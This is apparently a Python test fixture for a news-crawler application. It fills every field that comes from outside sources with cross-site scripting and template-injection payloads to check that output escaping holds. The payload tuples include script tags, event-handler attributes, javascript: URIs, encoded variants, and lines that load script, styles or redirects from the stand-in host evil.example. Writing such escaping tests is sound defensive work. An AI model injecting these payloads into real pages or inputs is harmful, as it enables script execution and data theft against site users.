"""Words that would run or load something wherever they are not escaped, and where such words may stand."""

from __future__ import annotations

from dataclasses import dataclass, replace

from crawler.items import CompanyMention, PollResult, Source, Verdict
from desk.wiring import Wiring
from tests.storage.building import figure, judged, page, reading, stored

_OPENERS = ("", '">', "'>", "</title>", "</textarea>", "--></script>", "]]>")
_FORMS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/y.css'</style>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.hit=1</x:script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
)
_WHOLE = (
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "' onmouseover='window.hit=1' autofocus onfocus='window.hit=1",
    '" style="background:url(//evil.example/z.png)" x="',
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "\u202e<\u0000script>window.hit=1</script>",
    "＜script＞window.hit=1＜/script＞",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
)
PAYLOADS = (*_WHOLE, *(opener + form for form in _FORMS for opener in _OPENERS))
ARTICLE = ("title", "text", "author", "outlet", "origin", "url", "round", "scope", "investor", "written", "quote")
BESIDE = (
    "note",
    "cause",
    "decider",
    "source",
    "source error",
    "run error",
    "letter",
    "letter error",
    "report",
    "paper",
)


@dataclass
class Words:
    """Gives out the payloads one after the other, and keeps who got which."""

    given: int = 0

    def __call__(self) -> str:
        self.given += 1
        # Told apart by their number, so that none is a copy of another.
        return f"{PAYLOADS[self.given % len(PAYLOADS)]}<!--{self.given}-->"


def fill(wiring: Wiring, articles: int) -> int:
    """Puts hostile words into every field that comes from outside; how many were put in."""
    words = Words()
    for number in range(articles):
        _article(wiring, number, {name: words() for name in ARTICLE})
        _beside(wiring, number, {name: words() for name in BESIDE})
    return words.given


def _article(wiring: Wiring, number: int, said: dict[str, str]) -> None:
    told = figure(
        str(1_000_000 + number),
        event=f"h{number}",
        quote=said["quote"],
        written=said["written"],
        round=said["round"],
        scope=said["scope"] if number % 2 else None,
        investors=(said["investor"],),
        start=0,
        end=3,
    )
    article = {name: said[name] for name in ("title", "outlet", "author", "origin")}
    read = reading(f"{said['quote']}。{said['text']}", told, **article)
    read = replace(read, companies=(CompanyMention("sensetime", 1, True),))
    url = f"https://news.example/{number}?{said['url']}" if number % 3 else f"{said['url']}#{number}"
    kept = page(
        f"hostile-{number}", outlet=said["outlet"], body=f"<html>{said['text']}".encode(), content_type="text/html"
    )
    kept = replace(kept, url=url, final_url=url, archived=wiring.archive.keep(kept))
    wiring.store.take_in(kept, read, stored(read, judged(told, ("new", "contradicts")[number % 2])))


def _beside(wiring: Wiring, number: int, said: dict[str, str]) -> None:
    store = wiring.store
    flag = store.flags.find(state="waiting", newest=True, limit=1)[0]
    if number % 4 == 3:
        store.flags.decide(flag.id, Verdict("reject", by=said["decider"], note=said["note"], reason=said["cause"]))
    store.ledger.add(figure("5"), source=said["paper"], url=said["report"], note=said["note"])
    store.sources.add(Source(said["source"], "feed", said["report"]))
    store.sources.polled(said["source"], PollResult("failed", error=said["source error"]))
    run = store.runs.start("crawl")
    store.runs.finish(run, error=said["run error"])
    letter = store.outbox.add(said["decider"], f"e{number}", f"<{number}@x>", b"", subject=said["letter"])
    assert letter is not None
    store.outbox.mark(letter, "failed", said["letter error"])
